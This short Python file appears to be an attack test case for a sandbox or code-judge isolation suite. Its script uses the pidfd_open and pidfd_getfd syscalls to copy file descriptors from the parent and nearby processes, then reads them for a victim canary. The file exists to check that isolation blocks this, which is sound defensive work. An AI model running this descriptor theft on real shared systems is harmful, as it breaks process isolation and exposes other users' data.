# /// attack
# category = "cross-execution"
# kind = "stdio"
# success = "canary:VICTIM"
# expected = ["wrong_answer", "sandbox_violation"]
# summary = "Duplicates the descriptors of neighbouring processes with pidfd_getfd and reads them."
# ///

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
mark = b"{VICTIM_MARK}"
own = os.getpid()
for pid in [int("{PARENT_PID}"), os.getppid(), *range(max(2, own - 100), own + 100)]:
    if pid == own:
        continue
    handle = libc.syscall(ctypes.c_long(434), ctypes.c_long(pid), ctypes.c_long(0))
    if handle < 0:
        continue
    for number in range(16):
        copy = libc.syscall(
            ctypes.c_long(438), ctypes.c_long(handle), ctypes.c_long(number), ctypes.c_long(0)
        )
        if copy < 0:
            continue
        try:
            content = os.pread(copy, 1 << 16, 0)
        except OSError:
            continue
        if mark in content:
            print(content.split(mark)[1:])
    os.close(handle)
print("done")
